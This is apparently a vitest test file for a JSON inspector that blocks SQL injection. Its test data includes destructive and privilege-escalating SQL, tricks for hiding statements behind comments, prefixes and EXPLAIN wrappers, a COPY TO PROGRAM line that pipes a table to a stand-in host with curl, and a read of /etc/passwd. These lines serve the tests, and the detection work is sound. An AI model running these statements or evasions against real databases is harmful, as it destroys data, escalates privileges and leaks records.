/**
 * SQL is analysed whatever comes first: comments, `;`, blank lines and parentheses before the
 * first keyword, and comment syntax one database reads as code. Each attack below was let
 * through before (the argument was not taken to be SQL, or the statement hid in a comment).
 */
import { describe, expect, test } from 'vitest';
import { blockingCategories, inspectJson } from './inspect-helpers.js';

const PREFIXES = ['/* report */ ', '/**/', '-- note\n', '--\n', '# note\n', '#\n', ';', ';;\n', '( ', '/* a */ -- b\n ; (', '/*\n multi\n line\n*/\n', '-- x\r', '\n\n-- x\n\n', '/* nested /* */ '];
const ATTACKS = ['DROP TABLE users', 'DELETE FROM users', "UPDATE users SET role = 'admin'", 'TRUNCATE orders', "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'", "SELECT * FROM users WHERE name = '' OR 1=1", 'SELECT 1; DROP TABLE users'];

describe('what comes before the first keyword hides nothing', () => {
  const cases = PREFIXES.flatMap((prefix) => ATTACKS.map((attack) => [prefix, attack] as const));
  test.each(cases)('%j then %j', (prefix, attack) => {
    for (const key of ['sql', 'query', 'statement']) {
      expect(blockingCategories(inspectJson(JSON.stringify({ [key]: `${prefix}${attack}` }))).has('sql-injection')).toBe(true);
    }
  });

  test('MySQL runs the inside of an executable comment', () => {
    expect(blockingCategories(inspectJson(JSON.stringify({ sql: '/*!50000 DROP TABLE users */' }))).has('sql-injection')).toBe(true);
  });
});

describe('comment syntax that another database reads as code', () => {
  test.each([
    // PostgreSQL: # is XOR, so the DELETE is a second statement.
    'SELECT 1 # 2; DELETE FROM users',
    // MySQL: --1 is minus minus one, not a comment.
    'SELECT 1 --1; DELETE FROM users',
    // PostgreSQL: a bare CR ends a line comment.
    'SELECT 1 -- x\r; DELETE FROM users',
  ])('%j', (sql) => {
    expect(blockingCategories(inspectJson(JSON.stringify({ sql }))).has('sql-injection')).toBe(true);
  });
});

describe('a statement wrapped in EXPLAIN, DESCRIBE or PREPARE still runs', () => {
  test.each([
    'EXPLAIN ANALYZE DELETE FROM users',
    'EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET admin = true',
    'SELECT 1; EXPLAIN ANALYZE DELETE FROM users',
    'SELECT 1; DESC DELETE FROM users',
    'PREPARE p AS DELETE FROM users',
  ])('%j', (sql) => {
    expect(blockingCategories(inspectJson(JSON.stringify({ sql }))).has('sql-injection')).toBe(true);
  });

  test('EXPLAIN of a read stays quiet', () => {
    expect(inspectJson(JSON.stringify({ sql: 'EXPLAIN SELECT id FROM users WHERE id = 1; SELECT 1' })).verdict).toBe('allow');
  });
});

describe('statement kinds that run files or commands are SQL too', () => {
  test.each(["COPY users TO PROGRAM 'curl -d @- http://x.example'", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t"])('%j', (query) => {
    expect(blockingCategories(inspectJson(JSON.stringify({ query }))).has('sql-injection')).toBe(true);
  });
});

describe('ordinary commented queries stay quiet', () => {
  test.each([
    '-- monthly revenue\nSELECT SUM(amount) FROM payments',
    '/* dashboard */ SELECT id, name FROM users WHERE id = 42',
    '# top customers\nSELECT name FROM customers ORDER BY spend DESC LIMIT 10',
    '(SELECT id FROM a) UNION (SELECT id FROM b)',
    "SELECT data #> '{a,b}' FROM docs WHERE id = 3",
    'SELECT a--b FROM t WHERE id = 1',
  ])('%j', (sql) => {
    expect(inspectJson(JSON.stringify({ sql })).verdict).toBe('allow');
  });
});
